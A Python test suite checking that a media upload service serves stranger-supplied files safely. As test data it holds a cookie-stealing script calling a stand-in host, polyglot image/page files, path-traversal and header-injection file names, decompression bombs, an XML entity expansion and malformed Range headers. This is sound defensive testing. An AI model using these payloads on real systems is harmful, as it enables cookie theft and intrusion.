"""Files of strangers: whatever they are called, contain or claim, they do no harm here or in a browser."""

from __future__ import annotations

import asyncio
import io
import json
import re
import struct
import time
import zipfile
import zlib
from collections.abc import AsyncIterator, Callable, Iterable, Mapping
from pathlib import Path

import httpx
import msgspec
import pytest
from aiohttp import web
from waba_cloud import MEDIA_ID
from waba_house import WabaHouse, open_waba_house
from waba_samples import message
from web_world import World

from jackfield.settings import Settings
from jackfield.store.rows import FileRow
from jackfield.web.media import SHOWN, headers_of

SCRIPT = b"<script>fetch('//evil.example/?'+document.cookie)</script>"
PAGES = {
    "text/html",
    "application/xhtml+xml",
    "image/svg+xml",
    "text/xml",
    "application/xml",
    "text/javascript",
}
MIB = 1024 * 1024


def png(width: int = 1, height: int = 1, more: bytes = b"") -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + more + chunk(b"IEND", b"")


def zipped(name: str, *chunks: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive, archive.open(name, "w") as inner:
        for chunk in chunks:
            inner.write(chunk)
    return file.getvalue()


def deflated(kind: int, chunks: Iterable[bytes]) -> bytes:
    """`kind` as zlib's wbits: 15 is zlib, 31 is gzip."""
    packer = zlib.compressobj(1, zlib.DEFLATED, kind)
    return b"".join([*map(packer.compress, chunks), packer.flush()])


async def put(world: World, content: bytes, *, name: str = "", mime: str = "") -> httpx.Response:
    api = await world.api(world.alpha.people["operator"])
    headers = {"Content-Type": mime} if mime else {}
    query = {"workspace": world.alpha.id, "name": name}
    return await api.post("/api/v1/media", params=query, content=content, headers=headers)


async def get(world: World, url: str, **headers: str) -> httpx.Response:
    return await (await world.api(world.alpha.people["viewer"])).get(url, headers=headers)


# -- what it is ----------------------------------------------------------

POLYGLOTS = {
    "a GIF that is a page": b"GIF89a/*" + SCRIPT + b"*/=1;",
    "a PNG with a page in it": png(more=SCRIPT),
    "a JPEG with a page in it": b"\xff\xd8\xff\xe0\x00\x10JFIF" + SCRIPT,
    "a bitmap that is a page": b"BM" + SCRIPT,
    "a song that is a page": b"ID3" + SCRIPT,
    "a film that is a page": b"\0\0\0\x20ftypisom" + SCRIPT,
    "a WebP that is a page": b"RIFF\x10\0\0\0WEBP" + SCRIPT,
    "a page after nothing": b"\n" * 3_000 + SCRIPT,
    "a page after a lot": b" " * 10_000 + SCRIPT,
    "a page in UTF-16": ("\ufeff<html>" + SCRIPT.decode()).encode("utf-16-le"),
    "a page in UTF-7": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "a picture of scripts": b"<?xml version='1.0'?><!-- x --><svg xmlns='http://www.w3.org/2000/svg'>"
    + SCRIPT,
    "XML with a style": b"<?xml-stylesheet href='data:,'?><a xmlns='http://www.w3.org/1999/xhtml'>" + SCRIPT,
    "a PDF that is a page": b"%PDF-1.7\n" + SCRIPT,
    "a PDF after a page": SCRIPT + b"\n%PDF-1.7\n",
    "an archive that is a page": zipped("a.html", SCRIPT) + SCRIPT,
    "a program": b"MZ\x90\0" + SCRIPT,
    "a script": b"alert(1)//",
    "a manifest": b'{"start_url": "https://evil.example"}',
    "nothing known": b"\x01\x02\x03" + SCRIPT,
}
CLAIMS = [
    "",
    "text/html",
    "image/svg+xml",
    "image/png",
    "application/xhtml+xml",
    "text/html\r\nX: y",
    "multipart/x",
]


@pytest.mark.parametrize("what", POLYGLOTS)
async def test_whatever_a_file_is_besides_a_browser_runs_none_of_it(site: World, what: str) -> None:
    """Either it is one of the types that cannot run, told not to be guessed anew; or it is downloaded as
    bytes. Both in a sandbox without an origin, whatever the sender claims."""
    for claim in CLAIMS:
        made = await put(site, POLYGLOTS[what], name="a.html", mime=claim.partition("\r")[0])
        assert made.status_code == 200, made.text
        answer = await get(site, made.json()["url"])
        kind, how = answer.headers["content-type"], answer.headers["content-disposition"]
        assert answer.content == POLYGLOTS[what]
        assert (kind in SHOWN and how.startswith("inline")) or (
            kind == "application/octet-stream" and how.startswith("attachment")
        )
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["content-security-policy"].startswith("default-src 'none'; sandbox;")
        assert answer.headers["cross-origin-resource-policy"] == "same-origin"


def test_nothing_that_can_run_is_ever_shown() -> None:
    assert not SHOWN & PAGES
    assert {kind.partition("/")[0] for kind in SHOWN} == {"image", "audio", "video"}


@pytest.mark.parametrize(
    "mime", [*sorted(PAGES), "text/plain", "application/pdf", "", "image/svg+xml; a=b", "IMAGE/PNG"]
)
def test_a_type_that_is_not_known_to_be_harmless_is_not_named(mime: str) -> None:
    """Whatever a row says, and whoever wrote it."""
    row = FileRow(id=1, workspace_id=1, state="ready", mime=mime, name="a", sha256="0", created_at=1)
    assert headers_of(row)["Content-Type"] == "application/octet-stream"
    assert headers_of(row)["Content-Disposition"].startswith("attachment")


# -- what it is called ----------------------------------------------------------

NAMES = [
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\x.dll",
    "/etc/passwd",
    "a\r\nSet-Cookie: jackfield=evil\r\n\r\n<html>",
    'a"; filename=evil.exe; x="',
    "photo\u202egnp.exe",
    "a\u2028b\u0085c",
    "\x00",
    "a%0d%0aX: y",
    "CON",
    ".htaccess",
    "....",
    "x" * 300,
    "я" * 300,
    "😀" * 100,
    "a;b,c=d",
    "*''%41",
]


@pytest.mark.parametrize("name", NAMES, ids=ascii)
async def test_a_name_is_only_a_name(site: World, name: str) -> None:
    """It chooses no place on the disk and says nothing outside of its parameter."""
    made = await put(site, b"hello", name=name)
    assert made.status_code == 200, made.text
    (kept,) = [path for path in site.settings.media_folder.rglob("*") if path.is_file()]
    assert kept.read_bytes() == b"hello"
    assert len(kept.name) == 32
    answer = await get(site, made.json()["url"])
    assert "set-cookie" not in answer.headers
    assert "x" not in answer.headers
    said = answer.headers["content-disposition"]
    assert said.isascii()
    assert said.isprintable()
    assert said.count('"') in (0, 2)
    assert not any(sign in said for sign in ("/", "\\", '.."'))
    assert said.partition(";")[0] == "attachment"


@pytest.mark.parametrize("path", ["..%2F..%2Fsecret.key", "%2e%2e/jackfield.db", "partial", "0" * 32])
async def test_no_path_leads_out_of_the_folder(site: World, path: str) -> None:
    """What is after the id is decoration; an id is no path."""
    made = (await put(site, b"hello")).json()
    assert (await get(site, f"{made['url']}/{path}")).content == b"hello"
    assert (await get(site, f"/media/{path}")).status_code == 404


# -- how much it is ----------------------------------------------------------


class Memory:
    """How many bytes more this process has had at most since it was made."""

    def __init__(self) -> None:
        Path("/proc/self/clear_refs").write_text("5")  # the highest mark is now
        self._before = self._highest()

    @property
    def grown(self) -> int:
        return self._highest() - self._before

    def _highest(self) -> int:
        said = re.search(r"VmHWM:\s+(\d+) kB", Path("/proc/self/status").read_text())
        assert said is not None
        return int(said[1]) * 1024


ZEROS = [bytes(MIB)] * 200
BOMBS: Mapping[str, Callable[[], bytes]] = {
    "an archive": lambda: zipped("zeros", *ZEROS),
    "a document": lambda: zipped("word/document.xml", *ZEROS),
    "a gzip": lambda: deflated(31, ZEROS),
    "a picture": lambda: png(65_535, 65_535, deflated(15, ZEROS)),
    "entities": lambda: b"<!DOCTYPE a [<!ENTITY b 'bb'><!ENTITY c '&b;&b;'>]><a>" + b"&c;" * 100_000,
}


def test_memory_is_seen_to_grow() -> None:
    """Else the tests below prove nothing."""
    memory = Memory()
    assert len(bytearray(b"x") * (80 * MIB)) == 80 * MIB
    assert memory.grown > 70 * MIB


@pytest.mark.parametrize("what", BOMBS)
async def test_nothing_that_is_packed_is_unpacked(site: World, what: str) -> None:
    """200 MiB in a few bytes: stored as it came, at once, in no more memory."""
    bomb = BOMBS[what]()
    memory, started = Memory(), time.perf_counter()
    made = await put(site, bomb)
    answer = await get(site, made.json()["url"])
    assert time.perf_counter() - started < 5
    assert memory.grown < 50 * MIB
    assert answer.content == bomb


# -- how it is asked for ----------------------------------------------------------

BODY = bytes(range(100))
ABUSE = {
    "bytes=" + ",".join(f"{n}-{n}" for n in range(10)): 200,
    "bytes=" + ",".join("0-" for _ in range(2_000)): 200,
    "bytes=0-99,0-99,0-99": 200,
    "bytes=-1-5": 200,
    "bytes=--5": 200,
    "bytes=1-2-3": 200,
    "bytes=0x1-0x5": 200,
    "bytes=+1-+5": 200,
    "bytes=1e1-": 200,
    "bytes=١-٥": 200,
    "bytes=-": 200,
    "bytes=0-99999999999999999999999999": 206,
    "bytes=-99999999999999999999999999": 206,
    "bytes=99999999999999999999999999-": 416,
    "bytes=9223372036854775807-9223372036854775808": 416,
    "bytes=" + "9" * 10_000 + "-": 200,
    "bytes=" + " " * 10_000 + "0-1": 200,
    "BYTES = 0 - 4": 206,
    "bytes=0-0\tx": 200,
}


async def test_no_range_sends_more_than_the_file_or_anything_twice(site: World) -> None:
    """Several ranges are one whole file: nobody gets it a thousand times over by asking so."""
    url = (await put(site, BODY)).json()["url"]
    viewer = await site.api(site.alpha.people["viewer"])
    for header, status in ABUSE.items():
        answer = await viewer.get(url, headers=[(b"Range", header.encode())])
        assert answer.status_code == status, header
        assert len(answer.content) == int(answer.headers.get("content-length", len(answer.content))) <= 100
        if status == 206:
            start, end = answer.headers["content-range"].removeprefix("bytes ").partition("/")[0].split("-")
            assert answer.content == BODY[int(start) : int(end) + 1]
        elif status == 200:
            assert answer.content == BODY
        else:
            assert answer.content == b""


# -- what the provider brings ----------------------------------------------------------


@pytest.fixture
async def house(sqlite_settings: Settings) -> AsyncIterator[WabaHouse]:
    async with open_waba_house(sqlite_settings) as opened:
        yield opened


async def fetched(house: WabaHouse, *, name: str = "a", mime: str = "application/pdf") -> FileRow:
    """Somebody sends a document; its row when it has been fetched, or has failed."""
    document = {"id": MEDIA_ID, "filename": name, "mime_type": mime, "caption": "look"}
    body = json.dumps(message(type="document", document=document)).encode()
    assert await house.call(body) == 200
    async with asyncio.timeout(30):
        while True:
            (row,) = await house.jackfield.store.rows(FileRow, "WHERE 1 = 1")
            if row.state != "pending" or row.error:
                return row
            await asyncio.sleep(0.02)


def brings(house: WabaHouse, content: bytes, **headers: str) -> None:
    async def answer(_: web.Request) -> web.StreamResponse:
        return web.Response(body=content, headers=headers)

    house.cloud.instead("file", *[answer] * 50)


@pytest.mark.parametrize(
    "name", ["../../../etc/passwd", "a\r\nSet-Cookie: x=y", "\u202egpj.exe", "x" * 5_000]
)
async def test_a_file_of_the_provider_is_only_downloaded_when_it_could_run(
    house: WabaHouse, name: str
) -> None:
    brings(house, b"<!doctype html>" + SCRIPT, **{"Content-Type": "image/png"})
    row = await fetched(house, name=name, mime="image/png")
    assert (row.state, row.mime) == ("ready", "text/html")
    (conversation,) = [one async for one in house.pages("/api/v1/conversations")]
    (shown,) = [one async for one in house.thread(conversation["id"])]
    file = await house.owner.get(f"{house.url}{shown['media'][0]['url']}")
    assert file.headers["Content-Type"] == "application/octet-stream"
    assert file.headers["Content-Disposition"].startswith("attachment")
    assert "Set-Cookie" not in file.headers
    kept = [path for path in house.jackfield.settings.media_folder.rglob("*") if path.is_file()]
    assert [path.read_bytes() for path in kept] == [await file.read()]


async def test_a_packed_answer_of_the_provider_ends_at_the_limit(sqlite_settings: Settings) -> None:
    """A little that HTTP unpacks into 200 MiB: given up where a file is too large, and nothing left of it."""
    settings = msgspec.structs.replace(sqlite_settings, upload_max=8 * MIB)
    bomb = deflated(31, ZEROS)
    async with open_waba_house(settings) as house:
        brings(house, bomb, **{"Content-Encoding": "gzip"})
        memory = Memory()
        row = await fetched(house)
        assert (row.state, row.error) == ("failed", "too_large")
        assert memory.grown < 50 * MIB
        assert [path for path in settings.media_folder.rglob("*") if path.is_file()] == []
